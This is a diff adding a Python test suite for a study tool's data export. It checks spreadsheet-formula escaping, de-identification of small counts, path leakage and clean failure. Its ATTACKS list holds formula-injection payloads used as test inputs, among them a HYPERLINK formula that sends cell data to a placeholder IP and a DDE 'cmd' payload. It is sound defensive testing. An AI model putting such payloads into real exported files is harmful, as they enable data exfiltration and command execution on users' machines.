@@ -1,0 +1,376 @@
+"""What leaves the house: every table, no person, and no cell that a spreadsheet would run."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import pytest
+
+from carebench import audit, open_study
+from carebench.finding import Finding, Skipped
+from carebench.reporting.deidentify import FEWEST, deidentified
+from carebench.reporting.dictionary import MEANINGS, meaning
+from carebench.reporting.export import WORKBOOK, _without_folders, export
+from carebench.reporting.questions import questions
+from carebench.reporting.spreadsheets import csv_text, guarded, write_workbook
+from carebench.schema import DataError
+from conftest import EXAMPLE, ROOT
+from studies import attempts, study, write_study
+
+ATTACKS = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\xa0=1+1",
+    "\ufeff=1+1",
+    "\uff1d1+1",
+    "\uff0b1+1",
+    "\uff0d1+1",
+    "\uff20SUM(1)",
+    "\tharmless",
+    '=HYPERLINK("http://192.0.2.1/?"&A1,"see")',
+    "=cmd|' /C calc'!A0",
+    '"=1+1',
+    "a;=1+1",
+    'a"\n=1+1',
+]
+HARMLESS = ["Sao Mai", "Trăng Non", "3/28", "a = b", "2026-Q3", "e-mail", "a, -b", "'quoted'"]
+OPENS = re.compile(r"[\s\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]")
+
+
+@pytest.fixture(scope="module")
+def example(tmp_path_factory):
+    """The example study exported twice: for anyone, and for the audit team alone."""
+    folder = tmp_path_factory.mktemp("example")
+    for name, identified in (("open", False), ("identified", True)):
+        export(EXAMPLE, out=folder / name, identified=identified)
+    return folder
+
+
+def _csv(path: Path) -> pd.DataFrame:
+    return pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False, dtype=str)
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+def test_no_cell_of_a_csv_opens_a_formula_whatever_parts_the_cells(text, delimiter):
+    written = csv_text(pd.DataFrame({"a": [text], "b": ["x"]})).removeprefix("\ufeff")
+    cells = [c for row in csv.reader(io.StringIO(written, newline=""), delimiter=delimiter)
+             for c in row]  # fmt: skip
+    assert len(cells) >= 2
+    assert not [cell for cell in cells if OPENS.match(cell)]
+
+
+@pytest.mark.parametrize("text", [t for t in ATTACKS if t != '"=1+1'])
+def test_what_was_guarded_reads_back_but_for_the_apostrophes(text):
+    written = csv_text(pd.DataFrame({"a": [text]}))
+    (_head, (cell,)) = csv.reader(io.StringIO(written, newline=""))
+    assert cell != text and cell.replace("'", "") == text.replace("'", "")
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_a_harmless_text_stays_as_it_is(text):
+    assert guarded(text) == text
+
+
+def test_no_cell_of_a_workbook_is_a_formula_and_each_says_it_is_text(tmp_path):
+    table = pd.DataFrame({"text": [*ATTACKS, "#REF!", "bell \x07"], "number": -1.5})
+    write_workbook({"attack": table}, tmp_path / "t.xlsx")
+    rows = list(openpyxl.load_workbook(tmp_path / "t.xlsx")["attack"].rows)[1:]
+    assert [row[0].data_type for row in rows] == ["s"] * len(table)
+    kept = [text.replace("\r", "\n") for text in table["text"][:-1]]  # XML knows one end of a line
+    assert [row[0].value for row in rows[:-1]] == kept
+    assert rows[-1][0].value == "bell "
+    assert all(row[0].quotePrefix for row in rows[: ATTACKS.index('"=1+1')])
+
+
+def test_numbers_stay_numbers_in_both(tmp_path):
+    table = pd.DataFrame({"a": [-1.5, float("nan")], "b": pd.array([-3, 7], dtype="Int64")})
+    assert csv_text(table).splitlines()[1:] == ["-1.5,-3", ",7"]
+    write_workbook({"t": table}, tmp_path / "t.xlsx")
+    first, second = list(openpyxl.load_workbook(tmp_path / "t.xlsx")["t"].rows)[1:]
+    assert [cell.value for cell in first] == [-1.5, -3] and first[0].data_type == "n"
+    assert [cell.value for cell in second] == [None, 7]
+
+
+def test_names_that_a_spreadsheet_would_refuse_become_sheets(tmp_path):
+    table = pd.DataFrame({"a": [1]})
+    names = ["x" * 40, "x" * 41, "a/b:c", "A-B-C"]
+    write_workbook(dict.fromkeys(names, table), tmp_path / "t.xlsx")
+    sheets = openpyxl.load_workbook(tmp_path / "t.xlsx").sheetnames
+    assert len(sheets) == 4 and all(len(name) <= 31 for name in sheets)
+
+
+def test_a_providers_name_cannot_attack_through_an_export(tmp_path):
+    care = attempts({"=HYPERLINK(1)": (6, 9), "@SUM(A1)": (8, 9)})
+    export(write_study(tmp_path, attempts=care), out=tmp_path / "out")
+    for path in (tmp_path / "out").glob("*.csv"):
+        text = path.read_text(encoding="utf-8-sig")
+        assert not [
+            c for row in csv.reader(io.StringIO(text, newline="")) for c in row
+            if OPENS.match(c) and not re.fullmatch(r"-?[\d.e+-]+", c)
+        ], path.name  # fmt: skip
+    assert (
+        "'=HYPERLINK(1)" in _csv(tmp_path / "out" / "answered-by-provider.csv")["provider"].tolist()
+    )
+    book = openpyxl.load_workbook(tmp_path / "out" / WORKBOOK)
+    assert not [c for sheet in book for row in sheet.rows for c in row if c.data_type in "fe"]
+
+
+def test_every_answer_that_a_notebook_shows_is_exported_or_said_to_be_left_out(example):
+    contents = _csv(example / "identified" / "contents.csv")
+    book = openpyxl.load_workbook(example / "identified" / WORKBOOK, read_only=True)
+    for path in sorted((ROOT / "notebooks").glob("*.ipynb")):
+        notebook = json.loads(path.read_text(encoding="utf-8"))
+        source = "\n".join("".join(c["source"]) for c in notebook["cells"])
+        shown = set(
+            re.findall(r"^show_(?:table|figure)\(.*?((?:\w+)\.\w+\(care.*\))\)$", source, re.M)
+        )
+        assert len(shown) >= 5
+        found = contents[contents["notebook"].eq(path.stem)]
+        assert {text.replace('"', "'") for text in shown} == set(found["question"]) - {""}
+    for row in contents.to_dict("records"):
+        written = (example / "identified" / f"{row['table']}.csv").exists() and row["table"]
+        assert bool(written) != bool(row["left_out"]), row
+        assert not written or row["table"][:31] in book.sheetnames
+        assert not written or len(_csv(example / "identified" / f"{row['table']}.csv")) == int(
+            row["rows"]
+        )
+
+
+def test_the_numbers_are_the_reports_own_and_not_rounded(example):
+    exported = _csv(example / "open" / "answered-by-provider-email.csv")
+    with open_study(EXAMPLE, tables=audit.TABLES) as care:
+        answer = audit.by_group(care, "email")
+    assert isinstance(answer, Finding)
+    assert exported["provider"].tolist() == answer.rows["provider"].tolist()
+    for name in ("value", "low", "high", "n"):
+        assert exported[name].astype(float).tolist() == answer.rows[name].astype(float).tolist()
+
+
+def test_a_csv_and_its_sheet_hold_the_same(example):
+    book = openpyxl.load_workbook(example / "open" / WORKBOOK, read_only=True)
+    for name in ("answered-by-channel", "groups", "dictionary"):
+        table = _csv(example / "open" / f"{name}.csv")
+        head, *rows = book[name].iter_rows(values_only=True)
+        assert list(head) == list(table.columns) and len(rows) == len(table)
+        assert [str(row[0]) for row in rows] == table.iloc[:, 0].tolist()
+
+
+def test_every_column_of_every_table_stands_in_the_dictionary_with_a_meaning(example):
+    for kind in ("open", "identified"):
+        words = _csv(example / kind / "dictionary.csv")
+        known = set(zip(words["table"], words["column"], strict=True))
+        assert (words["meaning"] != "").all()
+        for path in (example / kind).glob("*.csv"):
+            if path.stem not in ("dictionary", "provenance"):
+                for column in _csv(path).columns:
+                    assert (path.stem, column) in known
+                    assert re.fullmatch(r"\w+", column)
+
+
+def test_no_column_is_explained_by_its_own_name_alone(example):
+    """But where a table has a column for each of several words, which explain themselves."""
+    contents = _csv(example / "identified" / "contents.csv")
+    asked = {question for question in contents["question"] if question}
+    checked = 0
+    with open_study(EXAMPLE) as care:
+        for path in sorted((ROOT / "notebooks").glob("*.ipynb")):
+            for question in questions(json.loads(path.read_text(encoding="utf-8")), path.stem):
+                answer = question.ask(care)
+                assert question.text in asked
+                if isinstance(answer, Finding) and answer.name != "outcomes":
+                    unexplained = [n for n in map(str, answer.rows) if not _explained(n, answer)]
+                    assert not unexplained, (
+                        f"{answer.name}: add meanings to reporting/dictionary.py"
+                    )
+                    checked += 1
+    assert checked > 20
+
+
+def _explained(name: str, answer: Finding) -> bool:
+    known = name in MEANINGS or answer.labels.get(name)
+    return bool(known) or meaning(name, answer) != name.replace("_", " ")
+
+
+def _finding(rows: dict[str, list[object]], **styles: str) -> Finding:
+    return Finding("test", pd.DataFrame(rows), headline="3 of 3", notes=("3 of 3",), styles=styles)
+
+
+def test_numbers_that_rest_on_fewer_than_five_are_withheld_with_the_reason():
+    got = deidentified(
+        _finding({"group": ["a", "b", "c"], "value": [0.5, 0.4, 0.3], "n": [4, 3, 5],
+                  "text": ["2/4", "1/3", "2/5"]})
+    )  # fmt: skip
+    assert isinstance(got, Finding)
+    assert got.rows["group"].tolist() == ["a", "b", "c"]
+    assert got.rows["value"].tolist() == [None, None, 0.3]
+    assert got.rows["n"].tolist() == [None, None, 5]
+    assert got.rows["text"].tolist() == [None, None, "2/5"]
+    assert [bool(reason) for reason in got.rows["reason"]] == [True, True, False]
+    assert got.headline == "" and got.notes == ()
+
+
+def test_a_single_withheld_row_cannot_be_found_by_subtraction():
+    got = deidentified(
+        _finding({"scheme": ["x", "x", "x", "y"], "group": list("abcd"), "n": [2, 9, 7, 18]})
+    )
+    assert isinstance(got, Finding)
+    assert got.rows["n"].tolist() == [None, 9, None, 18]
+    assert "subtraction" in got.rows["reason"][2]
+
+
+def test_five_is_enough_and_then_the_words_stay():
+    got = deidentified(_finding({"group": ["a"], "n": [FEWEST]}))
+    assert isinstance(got, Finding)
+    assert got.rows["n"].tolist() == [FEWEST] and got.headline == "3 of 3"
+
+
+def test_a_small_part_of_a_row_is_withheld_and_the_row_is_not():
+    got = deidentified(
+        _finding({"channel": ["a", "b"], "made": [90, 80], "left": [3, 0]},
+                 made="count", left="count")
+    )  # fmt: skip
+    assert isinstance(got, Finding)
+    assert got.rows["made"].tolist() == [90, 80] and got.rows["left"].tolist() == [None, 0]
+
+
+@pytest.mark.parametrize("key", ["attempt_id", "customer_id", "respondent", "shopper"])
+def test_rows_about_single_persons_are_left_out(key):
+    assert isinstance(deidentified(_finding({key: ["a"], "n": [9]})), Skipped)
+
+
+def test_a_table_that_hides_how_many_it_rests_on_is_left_out():
+    assert isinstance(deidentified(_finding({"group": ["a"], "share": [0.5]})), Skipped)
+
+
+def test_no_exact_day_no_free_text_and_no_small_number_leaves_by_default(example, tmp_path):
+    day = re.compile(r"\b20\d\d-\d\d-\d\d\b")
+    for path in (example / "open").glob("*.csv"):
+        if path.stem == "provenance":
+            continue
+        table = _csv(path).drop(columns="expected", errors="ignore")  # the form of a day, no day
+        assert not table.apply(lambda column: column.str.contains(day)).to_numpy().any(), path.name
+        if "n" in table:
+            left = pd.to_numeric(table["n"])
+            assert (left.isna() | left.ge(FEWEST)).all(), path.name
+    identified = _csv(example / "identified" / "scope.csv")
+    assert identified["first"].str.fullmatch(day).all()
+    assert "channels" not in _columns(example / "open")
+
+
+def _columns(folder: Path) -> set[str]:
+    return {name for path in folder.glob("*.csv") for name in _csv(path).columns}
+
+
+def test_an_export_says_what_protects_it(example):
+    stated = {
+        kind: _csv(example / kind / "provenance.csv").set_index("name")["value"]["Protection"]
+        for kind in ("open", "identified")
+    }
+    assert stated["open"].startswith("De-identified")
+    assert "personal data" in stated["identified"]
+
+
+def test_nothing_written_says_where_on_which_machine(tmp_path, example):
+    (tmp_path / "elsewhere").mkdir()
+    attempts({"A": (6, 9)}).to_csv(tmp_path / "elsewhere" / "a.csv", index=False)
+    (tmp_path / "in").mkdir()
+    path = tmp_path / "in" / "study.toml"
+    path.write_text(
+        f'title = "T"\n[tables.attempts]\npath = "{(tmp_path / "elsewhere/a.csv").as_posix()}"\n'
+    )
+    export(path, out=tmp_path / "out")
+    for folder in (tmp_path / "out", example / "open", example / "identified"):
+        for file in folder.glob("*.csv"):
+            text = file.read_text(encoding="utf-8")
+            assert "elsewhere" not in text and str(ROOT) not in text and "/tmp" not in text
+        book = openpyxl.load_workbook(folder / WORKBOOK, read_only=True)
+        cells = [
+            str(c) for sheet in book for row in sheet.iter_rows(values_only=True) for c in row if c
+        ]
+        assert not [c for c in cells if "elsewhere" in c or str(ROOT) in c or str(tmp_path) in c]
+    assert "SHA-256 a.csv" in (tmp_path / "out" / "provenance.csv").read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize(
+    ("name", "kept"),
+    [("data/a.csv", "data/a.csv"), ("../x/a.csv", "a.csv"), ("D:\\x\\a.csv", "a.csv"),
+     ("/srv/x/*.csv (30 files)", "*.csv (30 files)")],
+)  # fmt: skip
+def test_a_file_that_lies_elsewhere_is_named_without_its_folder(name, kept):
+    assert _without_folders(name) == kept
+
+
+def test_excel_sees_that_a_csv_is_utf_8(example):
+    data = (example / "open" / "answered-by-provider.csv").read_bytes()
+    assert data.startswith(b"\xef\xbb\xbf") and "Chuồn Chuồn Tre".encode() in data
+
+
+def test_a_vietnamese_export_has_the_same_numbers_and_vietnamese_words(example, tmp_path):
+    export(EXAMPLE, out=tmp_path / "vi", parameters={"language": "vi"})
+    ours, theirs = (
+        _csv(f / "answered-by-channel.csv") for f in (example / "open", tmp_path / "vi")
+    )
+    assert set(ours["n"]) == set(theirs["n"]) and set(ours["value"]) == set(theirs["value"])
+    assert list(ours.columns) == list(theirs.columns)
+    words = _csv(tmp_path / "vi" / "dictionary.csv").set_index(["table", "column"])["meaning"]
+    assert words["answered-by-channel", "channel"] != "channel"
+
+
+def test_an_export_never_mixes_with_an_older_one(tmp_path):
+    path = write_study(tmp_path, attempts=attempts({"A": (6, 9)}))
+    export(path, out=tmp_path / "out", identified=True)
+    before = sorted(p.name for p in (tmp_path / "out").iterdir())
+    with pytest.raises(DataError, match="not empty"):
+        export(path, out=tmp_path / "out")
+    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == before
+
+
+def test_an_export_that_fails_leaves_nothing(tmp_path, monkeypatch):
+    path = write_study(tmp_path, attempts=attempts({"A": (6, 9)}))
+
+    def full(*_: object) -> None:
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr("carebench.reporting.export.write_workbook", full)
+    with pytest.raises(DataError, match="No space left"):
+        export(path, out=tmp_path / "out")
+    assert not (tmp_path / "out").exists()
+    assert not list(tmp_path.glob(".carebench-*"))
+
+
+@pytest.mark.parametrize("given", [{"wvae": "x"}, {"study": "x.toml"}, {"wave": "2031"}])
+def test_a_wrong_parameter_is_one_clear_error(tmp_path, given):
+    table = attempts({"A": (6, 9)}, wave="2026-Q3")
+    with pytest.raises(DataError):
+        export(write_study(tmp_path, attempts=table), out=tmp_path / "out", parameters=given)
+    assert not (tmp_path / "out").exists()
+
+
+def test_a_cell_that_shows_no_plain_question_is_refused_and_not_forgotten():
+    for cell in ("show_table(rows)", "show_table(audit._secret(care))", "show_table(os.f(care))",
+                 "show_table(audit.by_group(care, channel))"):  # fmt: skip
+        notebook = {"cells": [{"cell_type": "code", "source": [cell]}]}
+        with pytest.raises(DataError, match="cannot be exported"):
+            questions(notebook, "04_mine")
+
+
+def test_a_question_that_the_study_cannot_answer_is_listed_with_its_reason(tmp_path):
+    with study(tmp_path, attempts=attempts({"A": (6, 9)})) as care:
+        reason = audit.operator_counts(care)
+    assert isinstance(reason, Skipped)
+    export(tmp_path / "study.toml", out=tmp_path / "out")
+    contents = _csv(tmp_path / "out" / "contents.csv").set_index("question")
+    assert contents.loc["audit.operator_counts(care)", "left_out"] == reason.reason
